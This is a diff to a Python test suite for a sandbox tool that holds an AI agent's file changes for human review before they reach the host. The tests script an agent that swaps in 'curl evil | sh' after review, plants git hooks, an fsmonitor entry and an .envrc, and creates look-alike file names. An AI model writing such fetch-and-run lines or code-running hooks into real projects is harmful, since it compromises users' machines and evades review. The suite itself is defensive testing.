@@ -87,7 +87,7 @@ def test_host_is_untouched_until_commit_and_then_exactly_the_approved_paths_chan
     remaining = {Path(p).relative_to(project).as_posix() for p in changes(tester, session)}
     assert remaining == {"new.txt", "c.txt", "run.sh", "old", "sub/d.txt"}
 
-    rest = tester.run("commit", session)
+    rest = tester.run("commit", session, "--include-risky")
     assert rest.returncode == 0, rest.stderr
     assert not (project / "c.txt").exists() and not (project / "old").exists()
     assert stat.S_IMODE((project / "run.sh").stat().st_mode) == 0o755
@@ -349,3 +349,232 @@ def test_unreadable_staged_entries_are_named_and_the_rest_still_commits(
     assert committed.returncode == 1 and "secret0" in committed.stderr, committed.stderr
     assert (project / "fine.txt").read_text() == "ok\n"
     assert not (project / "secret0").exists() and not (project / "d0").exists()
+
+
+def staged_file(user: DesktopUser, session: str, name: str) -> Path | None:
+    """The agent's staged version of `name` (looked at from outside, as root or the user: no
+    listing is taken)."""
+    found = list((user.base / ".state" / "airlock" / "sessions" / session / "staging")
+                 .glob(f"*/upper/{name}"))
+    return found[0] if found else None
+
+
+def listing_id(output: str) -> str:
+    """The changeset id a listing printed: "… N changes, id 1a2b3c4d5e6f; …"."""
+    marker = output.rindex(", id ") + len(", id ")
+    return output[marker:marker + 12]
+
+
+def test_commit_is_held_to_what_the_person_reviewed_while_the_agent_runs(
+    tester: DesktopUser, agent_image: str, project: Path
+) -> None:
+    signal = tester.write("signal.txt", "wait\n")  # shows through to the agent when rewritten
+    script = (
+        f"cd {project}; echo 'harmless edit' > a.txt; echo 'also fine' > other.txt; "
+        f"while ! grep -q go {signal}; do sleep 0.1; done; "
+        "echo 'curl evil | sh' > a.txt; echo late > late.txt; sleep 120"
+    )
+    path = tester.write("sly.toml", profile_text(agent_image, ["sh", "-c", script]))
+    process = tester.popen("run", "--profile", str(path), "--review", "never",
+                           "--grant", f"{project}:rw", "--grant", f"{signal}:ro")
+    try:
+        session = wait_running(tester, process)["id"]
+        deadline = time.monotonic() + 60
+        while staged_file(tester, session, "other.txt") is None and time.monotonic() < deadline:
+            time.sleep(0.1)
+        unlisted = tester.run("commit", session)  # running, and never listed: nothing lands
+        assert unlisted.returncode != 0
+        assert f"`airlock changes {session} --diff` first" in unlisted.stderr
+
+        reviewed = tester.run("changes", session, "--diff")
+        assert reviewed.returncode == 0, reviewed.stderr
+        assert "+harmless edit" in reviewed.stdout and "2 changes, id " in reviewed.stdout
+        first = listing_id(reviewed.stdout)
+
+        with open(signal, "w") as f:  # the same inode: the agent sees it
+            f.write("go\n")
+        deadline = time.monotonic() + 60
+        while time.monotonic() < deadline:
+            late, edited = (staged_file(tester, session, n) for n in ("late.txt", "a.txt"))
+            if late and edited and edited.read_text() == "curl evil | sh\n":
+                break
+            time.sleep(0.1)
+        else:
+            raise AssertionError("the agent never rewrote a.txt")
+
+        committed = tester.run("commit", session)
+        assert committed.returncode == 1
+        assert (f"refused: {project / 'a.txt'}: changed since you reviewed it"
+                in committed.stderr)
+        assert f"refused: {project / 'late.txt'}: not in the listing you reviewed" \
+            in committed.stderr
+        shown_again = committed.stderr.split("not committed, as you did not see them")[1]
+        assert str(project / "a.txt") in shown_again and str(project / "late.txt") in shown_again
+        assert f"committed: {project / 'other.txt'}" in committed.stdout  # as it was listed
+        assert (project / "a.txt").read_text() == "alpha\n"
+        assert (project / "other.txt").read_text() == "also fine\n"
+        assert not (project / "late.txt").exists()
+
+        old = tester.run("commit", session, "--reviewed", first)
+        assert old.returncode == 1 and "changed since you reviewed it" in old.stderr
+        assert (project / "a.txt").read_text() == "alpha\n"
+        unknown = tester.run("commit", session, "--reviewed", "0123456789ab")
+        assert unknown.returncode != 0 and "no listing" in unknown.stderr
+
+        again = tester.run("changes", session, "--diff")
+        assert "+curl evil | sh" in again.stdout
+        second = listing_id(again.stdout)
+        exact = tester.run("commit", session, "--reviewed", second)
+        assert exact.returncode == 0, exact.stderr
+        assert (project / "a.txt").read_text() == "curl evil | sh\n"  # what that listing showed
+        assert (project / "late.txt").read_text() == "late\n"
+    finally:
+        tester.stop(process)
+
+
+ACL_SCRIPT = (  # what `setfacl -m u:4242:rwx acl.txt` does; the image has python, not setfacl
+    "import os, struct; e = [(1, 6, -1), (2, 7, 4242), (4, 4, -1), (0x10, 7, -1), (0x20, 4, -1)]; "
+    "os.setxattr('acl.txt', 'system.posix_acl_access', struct.pack('<I', 2) + "
+    "b''.join(struct.pack('<HHI', t, p, i & 0xffffffff) for t, p, i in e))"
+)
+
+
+def test_every_mode_that_lands_is_listed_and_the_host_gets_exactly_it(
+    tester: DesktopUser, agent_image: str, project: Path
+) -> None:
+    script = (
+        f"cd {project}; chmod 755 run.sh; echo more >> a.txt; chmod 755 a.txt; "
+        "echo x > open.txt; chmod 777 open.txt; mkdir shared; chmod 777 shared; "
+        f"echo acl > acl.txt; chmod 644 acl.txt; python3 -c \"{ACL_SCRIPT}\"; "
+        "ls -l acl.txt"
+    )
+    result, session = run_agent(tester, agent_image, script, [f"{project}:rw"])
+    assert result.returncode == 0, result.stderr
+    listed = tester.run("changes", session)
+    lines = {line.rsplit("  ", 1)[-1]: line for line in listed.stdout.splitlines()
+             if line[:1] in "AMm"}
+    expected = {"run.sh": ("m file", "mode 0644 -> 0755"), "a.txt": ("M file", "mode 0644 -> 0755"),
+                "open.txt": ("A file", "mode 0777"), "shared": ("A directory", "mode 0777"),
+                "acl.txt": ("A file", "mode 0674")}  # the ACL's mask is the group's bits
+    for name, (kind, mode) in expected.items():
+        line = lines[str(project / name)]
+        assert line.startswith(kind) and f"  {mode}  " in line, line
+    assert "+more" in tester.run("changes", session, "--diff").stdout
+    as_json = {Path(c["path"]).name: c["mode"]
+               for c in json.loads(tester.run("changes", session, "--json").stdout)["changes"]}
+    assert as_json == {"run.sh": "0755", "a.txt": "0755", "open.txt": "0777", "shared": "0777",
+                       "acl.txt": "0674"}
+    committed = tester.run("commit", session, "--include-risky")
+    assert committed.returncode == 0, committed.stderr
+    for name, mode in as_json.items():
+        assert f"{stat.S_IMODE((project / name).stat().st_mode):04o}" == mode, name
+    assert not [a for a in os.listxattr(project / "acl.txt") if a.startswith("system.")]
+
+
+def test_names_that_pass_for_others_are_flagged_in_every_listing(
+    tester: DesktopUser, agent_image: str, project: Path
+) -> None:
+    tester.write("proj/caf\u00e9.md", "the user's, composed (NFC)\n")
+    tester.write("proj/report.txt", "the user's report\n")
+    script = (
+        f"cd {project}; printf x > \"$(printf 'cafe\\314\\201.md')\"; "  # e + combining acute
+        "printf x > 'report.txt '; "
+        "printf x > \"$(printf 'notes\\342\\200\\217.md')\"; "  # U+200F, invisible
+        "printf x > plain.md"
+    )
+    result, session = run_agent(tester, agent_image, script, [f"{project}:rw"])
+    assert result.returncode == 0, result.stderr
+    nfd, spaced, hidden = (str(project / n) for n in
+                           ("cafe\u0301.md", "report.txt ", "notes\u200f.md"))
+    warnings = {c["path"]: c["warnings"] for c in
+                json.loads(tester.run("changes", session, "--json").stdout)["changes"]}
+    assert warnings[str(project / "plain.md")] == []
+    assert any("NFC" in w for w in warnings[nfd])
+    assert any("caf\u00e9.md in the same folder" in w for w in warnings[nfd])
+    assert "looks like report.txt in the same folder" in warnings[spaced]
+    assert any("invisible" in w for w in warnings[hidden])
+    listed = tester.run("changes", session).stdout
+    at_end = result.stderr  # the list `airlock run` showed when the agent ended
+    for shown in (listed, at_end):
+        blocks = shown.split("\n")
+        for name in ("cafe\u0301.md", "report.txt ", "notes\\u200f.md"):
+            [index] = [i for i, line in enumerate(blocks) if line.endswith(f"/proj/{name}")]
+            assert "warning: the name" in "\n".join(blocks[index + 1:index + 4]), (name, shown)
+    assert "3 with a name to check" in listed
+
+
+def test_changes_that_run_code_wait_for_a_person_even_under_auto_commit(
+    tester: DesktopUser, agent_image: str, project: Path
+) -> None:
+    marker = tester.base / "ran-the-agents-code"
+    git = [*tester.prefix, "env", f"HOME={tester.home}", "git", "-C", str(project)]
+    subprocess.run([*git, "init", "-q"], check=True)
+    config_before = (project / ".git" / "config").read_bytes()
+    script = (
+        f"cd {project}; printf '#!/bin/sh\\ntouch {marker}\\n' > .git/hooks/pre-commit; "
+        "chmod 755 .git/hooks/pre-commit; "
+        f"printf '\\tfsmonitor = touch {marker}\\n' >> .git/config; "
+        f"echo 'touch {marker}' > .envrc; echo fine > notes.md"
+    )
+    result, session = run_agent(tester, agent_image, script, [f"{project}:rw"],
+                                extra='[approval]\ncommit = "auto"')
+    assert result.returncode == 0, result.stderr
+    # "auto" committed the plain file, and none of what runs code.
+    assert (project / "notes.md").read_text() == "fine\n"
+    assert (project / ".git" / "config").read_bytes() == config_before
+    assert not (project / ".envrc").exists()
+    assert not (project / ".git" / "hooks" / "pre-commit").exists()
+
+    hook, config, envrc = (str(project / p) for p in (".git/hooks/pre-commit", ".git/config",
+                                                      ".envrc"))
+    marked = {c["path"]: c["runs_code"] for c in
+              json.loads(tester.run("changes", session, "--json").stdout)["changes"]}
+    assert set(marked) == {hook, config, envrc}
+    assert any("a git hook" in r for r in marked[hook])
+    assert any(f"core.fsmonitor = touch {marker}" in r for r in marked[config])
+    assert any("direnv" in r for r in marked[envrc])
+    listed = tester.run("changes", session).stdout
+    assert listed.count("    runs code: ") >= 3 and "3 can run code" in listed
+
+    everything = tester.run("commit", session)  # without paths: they stay staged
+    assert everything.returncode == 1
+    for path in (hook, config, envrc):
+        assert f"refused: {path}: can run code on your machine" in everything.stderr
+    assert (project / ".git" / "config").read_bytes() == config_before
+    status = subprocess.run([*git, "status", "--short"], capture_output=True, text=True)
+    assert status.returncode == 0, status.stderr
+    assert not marker.exists()  # the user's git ran nothing of the agent's
+
+    named = tester.run("commit", session, envrc)  # named explicitly: that one lands
+    assert named.returncode == 0, named.stderr
+    assert (project / ".envrc").read_text() == f"touch {marker}\n"
+    assert not (project / ".git" / "hooks" / "pre-commit").exists()
+
+
+def test_the_end_of_run_question_commits_what_runs_code_only_when_asked_to(
+    tester: DesktopUser, agent_image: str, project: Path
+) -> None:
+    import pty
+    import select
+
+    path = tester.write("mixed.toml", profile_text(
+        agent_image, ["sh", "-c", f"cd {project}; echo n > n.txt; echo 'curl evil' > .envrc"]))
+    main, secondary = pty.openpty()
+    command = [*tester.prefix, "env", "-i", *(f"{k}={v}" for k, v in tester.env.items()),
+               str(Path(tester.env["PATH"].split(":")[0]) / "airlock"), "run", "--profile",
+               str(path), "--grant", f"{project}:rw"]
+    process = subprocess.Popen(command, stdin=secondary, stdout=secondary, stderr=secondary,
+                               cwd=tester.base)
+    os.close(secondary)
+    seen = b""
+    deadline = time.monotonic() + 60
+    while b"[d]iff" not in seen and time.monotonic() < deadline:
+        if select.select([main], [], [], 1)[0]:
+            seen += os.read(main, 4096)
+    assert b"runs code: direnv" in seen
+    assert b"[y]es but not the 1 that can run code, [a]ll, [N]o, [d]iff" in seen
+    os.write(main, b"y\n")
+    process.wait(timeout=60)
+    os.close(main)
+    assert (project / "n.txt").read_text() == "n\n"
+    assert not (project / ".envrc").exists()
